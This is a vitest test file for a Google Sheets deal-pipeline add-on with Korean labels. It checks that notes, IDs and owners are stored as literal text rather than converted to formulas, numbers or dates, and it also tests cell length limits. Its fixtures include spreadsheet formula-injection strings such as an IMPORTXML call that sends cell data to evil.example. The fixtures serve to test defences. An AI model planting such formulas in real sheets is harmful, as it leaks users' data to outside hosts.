/**
 * Text the add-on writes is stored as exactly that text. Sheets reads a
 * written string as if a person typed it (`=…` a formula, `00123` the number
 * 123, `2023-11` a date); the stand-in converts typed text the same way, so
 * what reads back here is what a team would see in their sheet.
 */
import { describe, expect, it } from 'vitest';
import type { StandIn } from '../support/standin';
import { cellOf, column, rowOf, samplePipeline, saveSettings } from './harness';

interface Result {
  ok: boolean;
  reason?: string;
  message: string;
  missing: string[];
  state: { deal: { stage: string } | null; checklist: { criterion: string; done: boolean }[] } | null;
}

type Call = (fn: string, ...a: unknown[]) => unknown;

const DEAL = 'D-2023-034'; // 미팅 약속 완료, owner sua.choi@example.com, no tasks yet.

/** Texts Sheets would turn into a formula, a number, a date or a boolean if written as typed. */
const TRICKY = [
  '=IMPORTXML("https://evil.example/x","//a")',
  '+82 10 1234 5678',
  '-',
  '- 예산 동결',
  '@kim 확인 부탁',
  '00123',
  '1-2',
  '2023-11',
  '2023. 11. 5',
  'TRUE',
  '1,000',
  '70%',
  "'quoted",
];

/** A loss picked as 기타 (Other) with the free text after it: the Note is `기타: <note>` (issue 14 point 3). */
function lose(call: Call, dealId: string, stage: string, note: string): Result {
  return call('panelMoveDeal', {
    dealId,
    expectedStage: stage,
    toStage: '실주',
    override: false,
    note,
    reason: '기타',
  }) as Result;
}

function lastHistory(standIn: StandIn): Record<string, unknown> {
  const rows = standIn.values('Stage history');
  const header = rows[0] as string[];
  const last = rows.at(-1) ?? [];
  return Object.fromEntries(header.map((h, i) => [h, last[i]]));
}

describe('one write path that stores text literally', () => {
  it('a note of any shape reads back exactly as typed, never as a formula, number or date', () => {
    for (const note of TRICKY) {
      const { standIn, act: call } = samplePipeline();
      const result = lose(call, DEAL, '미팅 약속 완료', note);
      expect(result.ok, note).toBe(true);
      const row = standIn.values('Stage history').length;
      expect(lastHistory(standIn).메모, note).toBe(note.trim() === '' ? '기타' : `기타: ${note.trim()}`);
      // …and no formula was stored in the row.
      const formulas = standIn.snapshot('Stage history').formulas[row - 1] ?? [];
      expect(
        formulas.every((f) => f === ''),
        note,
      ).toBe(true);
    }
  });

  it('a lost reason =IMPORTXML(...) typed in the panel is text in Stage history', () => {
    const { standIn, act: call } = samplePipeline();
    const reason = '=IMPORTXML("https://evil.example/steal?d="&A1,"//a")';
    expect(lose(call, DEAL, '미팅 약속 완료', reason).ok).toBe(true);
    expect(lastHistory(standIn)).toMatchObject({ '딜 ID': DEAL, 단계: '실주', 메모: `기타: ${reason}` });
  });

  it('an owner and an entry task that start with = land in Tasks as text', () => {
    const { standIn, act: call } = samplePipeline();
    const owner = '=HYPERLINK("https://evil.example","click")';
    const row = rowOf(standIn, DEAL);
    standIn.seed('Deals', `E${row}`, { values: [[owner]] });
    const stagesRow = standIn.values('Stages').findIndex((r) => r[0] === '제품 살펴보는 중') + 1;
    const task = '=1+1 데모 준비';
    standIn.seed('Stages', `F${stagesRow}`, { values: [[`${task}\n사용 현황 점검 콜 (+7d)`]] });
    const result = call('panelMoveDeal', {
      dealId: DEAL,
      expectedStage: '미팅 약속 완료',
      toStage: '제품 살펴보는 중',
      override: true,
      note: '고객 요청으로 먼저 진행',
    }) as Result;
    expect(result.ok).toBe(true);
    const tasks = standIn.values('Tasks').filter((r) => r[1] === DEAL);
    expect(tasks.length).toBeGreaterThan(0);
    expect(tasks.every((r) => r[4] === owner)).toBe(true);
    expect(tasks.map((r) => r[2])).toContain(task);
    const formulas = standIn.snapshot('Tasks').formulas.flat();
    expect(formulas.every((f) => f === '')).toBe(true);
  });
});

/** The shapes SPEC §8 names, each of which Sheets would convert if it were written as typed. */
const CONVERTIBLE = ['=1+1', '+82 10', '-5', '@kim', '00123', '1-2', '2023-11'];

describe('what is written reads back as the text given (SPEC §8)', () => {
  it('a Deal ID and an Owner of each convertible shape read back unchanged in Stage history and Tasks', () => {
    for (const text of CONVERTIBLE) {
      const { standIn, act: call, app } = samplePipeline();
      const row = rowOf(standIn, DEAL);
      // The team's cells hold these strings (typed into plain-text cells, or imported).
      standIn.seed('Deals', `A${row}`, { values: [[text]] });
      standIn.seed('Deals', `E${row}`, { values: [[text]] });
      standIn.begin('menu');
      (app.runChecksNow as () => void)(); // D-2023-034 is stale: a review task for it
      const stale = standIn.values('Tasks').filter((r) => r[8] === 'stale' && r[1] === text);
      expect(stale, text).toHaveLength(1);
      expect(stale[0]?.[4], text).toBe(text);
      const moved = call('panelMoveDeal', {
        dealId: text,
        expectedStage: '미팅 약속 완료',
        toStage: '제품 살펴보는 중',
        override: true,
        note: text,
      }) as Result;
      expect(moved.ok, text).toBe(true);
      expect(lastHistory(standIn)['딜 ID'], text).toBe(text);
      expect(String(lastHistory(standIn).메모), text).toContain(text);
      const entryTasks = standIn.values('Tasks').filter((r) => r[1] === text && r[8] !== 'stale');
      expect(entryTasks.length, text).toBeGreaterThan(0);
      expect(
        entryTasks.every((r) => r[4] === text),
        text,
      ).toBe(true);
      for (const sheet of ['Stage history', 'Tasks'])
        expect(
          standIn
            .snapshot(sheet)
            .formulas.flat()
            .every((f) => f === ''),
          `${sheet} ${text}`,
        ).toBe(true);
    }
  });

  it('a lost reason of each convertible shape, picked in the panel, is the Note as typed', () => {
    for (const text of CONVERTIBLE) {
      const h = samplePipeline();
      const { standIn, act: call } = h;
      saveSettings(h, { lostReasons: [text, '예산 부족'] });
      const result = call('panelMoveDeal', {
        dealId: DEAL,
        expectedStage: '미팅 약속 완료',
        toStage: '실주',
        override: false,
        note: '',
        reason: text,
      }) as Result;
      expect(result.ok, text).toBe(true);
      expect(lastHistory(standIn).메모, text).toBe(text);
    }
  });
});

describe('ids keep their exact text', () => {
  it('Deal ID 00123 is copied as 00123: its criteria can be ticked and the deal moves forward', () => {
    const { standIn, act: call } = samplePipeline();
    const row = rowOf(standIn, DEAL);
    standIn.seed('Deals', `A${row}`, { values: [['00123']] });
    // The history knows the deal by its new id from here on (the team renamed it).
    const entered = call('panelMoveDeal', {
      dealId: '00123',
      expectedStage: '미팅 약속 완료',
      toStage: '제품 살펴보는 중',
      override: true,
      note: 'x',
    }) as Result;
    expect(entered.ok).toBe(true);
    const history = standIn.values('Stage history').filter((r) => r[1] === '00123');
    expect(history.length).toBeGreaterThan(0);
    const tasks = standIn.values('Tasks').filter((r) => r[1] === '00123');
    expect(tasks.length).toBeGreaterThan(0);
    expect(tasks.every((r) => String(r[9]).startsWith('00123|'))).toBe(true);
    for (const criterion of ['고객이 데모 환경에서 핵심 기능 직접 사용', '도입 검토 담당자 지정']) {
      const tick = call('panelSetChecklistItem', {
        dealId: '00123',
        stage: '제품 살펴보는 중',
        criterion,
        done: true,
      }) as Result;
      expect(tick.ok, criterion).toBe(true);
    }
    const forward = call('panelMoveDeal', {
      dealId: '00123',
      expectedStage: '제품 살펴보는 중',
      toStage: '온보딩 교육 중',
      override: false,
      note: '',
    }) as Result;
    expect(forward).toMatchObject({ ok: true });
    expect(cellOf(standIn, 'Deals', row, '딜 ID')).toBe('00123');
  });

  it('a Deal ID =A gets one stale review task however often the check runs', () => {
    const { standIn, app } = samplePipeline();
    const row = rowOf(standIn, 'D-2023-034'); // stale: 41 days in 미팅 약속 완료 (limit 14)
    standIn.seed('Deals', `A${row}`, { values: [['=A']] });
    for (let run = 0; run < 3; run++) {
      standIn.begin('menu');
      (app.runChecksNow as () => void)();
    }
    const stale = standIn.values('Tasks').filter((r) => r[1] === '=A' && r[8] === 'stale');
    expect(stale).toHaveLength(1);
    expect(String(stale[0]?.[9])).toBe('=A|미팅 약속 완료|2023-10-05|stale');
  });
});

describe('limits', () => {
  it('a 50,000-character bad cell is cut in its Health text, and every other deal is still checked', () => {
    const { standIn, app } = samplePipeline();
    const row = rowOf(standIn, 'D-2023-017');
    standIn.seed('Deals', `F${row}`, { values: [['x'.repeat(50_000)]] });
    standIn.begin('menu');
    (app.runChecksNow as () => void)();
    const health = column(standIn, 'Deals', '파이프라인 점검');
    const text = String(standIn.values('Deals')[row - 1]?.[health]);
    expect(text).toMatch(/^입력 오류: 금액/);
    expect(text.length).toBeLessThan(1_000);
    expect(text).toContain('(50,000');
    // Another deal's flag is written as usual.
    expect(standIn.values('Deals')[rowOf(standIn, 'D-2023-034') - 1]?.[health]).toMatch(
      /^정체: 미팅 약속 완료/,
    );
  });

  it('a 49,990-character Deal ID gets one stale task over three runs; what overflows a cell is cut with a mark', () => {
    const { standIn, app } = samplePipeline();
    const id = `D-${'9'.repeat(49_988)}`;
    const owner = `${'김'.repeat(49_990)}`;
    const row = rowOf(standIn, 'D-2023-034'); // stale
    standIn.seed('Deals', `A${row}`, { values: [[id]] });
    standIn.seed('Deals', `E${row}`, { values: [[owner]] });
    for (let run = 0; run < 3; run++) {
      standIn.begin('menu');
      (app.runChecksNow as () => void)();
    }
    const stale = standIn.values('Tasks').filter((r) => r[8] === 'stale' && r[1] === id);
    expect(stale).toHaveLength(1);
    // The Deal ID and Owner fit a cell and are copied whole; the key (ID|stage|day|stale) does not, and says so.
    expect(stale[0]?.[4]).toBe(owner);
    const key = String(stale[0]?.[9]);
    expect(key.length).toBeLessThanOrEqual(50_000);
    expect(key).toMatch(/ …\[cut: 50,\d{3} characters\]$/);
    // Its Health names the stale stage as for any deal.
    expect(cellOf(standIn, 'Deals', row, '파이프라인 점검')).toMatch(/^정체: 미팅 약속 완료/);
  });

  it('an entry task due in 100,000,000 days refuses the move into its stage before anything is written', () => {
    const { standIn, act: call } = samplePipeline();
    const stagesRow = standIn.values('Stages').findIndex((r) => r[0] === '제품 살펴보는 중') + 1;
    standIn.seed('Stages', `F${stagesRow}`, { values: [['데모 계정 발급 (+100000000d)']] });
    const before = {
      deals: standIn.snapshot('Deals'),
      history: standIn.snapshot('Stage history'),
      tasks: standIn.snapshot('Tasks'),
    };
    const move = () =>
      call('panelMoveDeal', {
        dealId: DEAL,
        expectedStage: '미팅 약속 완료',
        toStage: '제품 살펴보는 중',
        override: true,
        note: '먼저 진행',
      }) as Result;
    const refused = move();
    expect(refused.ok).toBe(false);
    expect(refused.message).toContain('제품 살펴보는 중');
    expect(standIn.snapshot('Deals')).toEqual(before.deals);
    expect(standIn.snapshot('Stage history')).toEqual(before.history);
    expect(standIn.snapshot('Tasks')).toEqual(before.tasks);
    // The team fixes the line; the same move now goes through.
    standIn.seed('Stages', `F${stagesRow}`, { values: [['데모 계정 발급 (+3d)']] });
    expect(move().ok).toBe(true);
  });
});
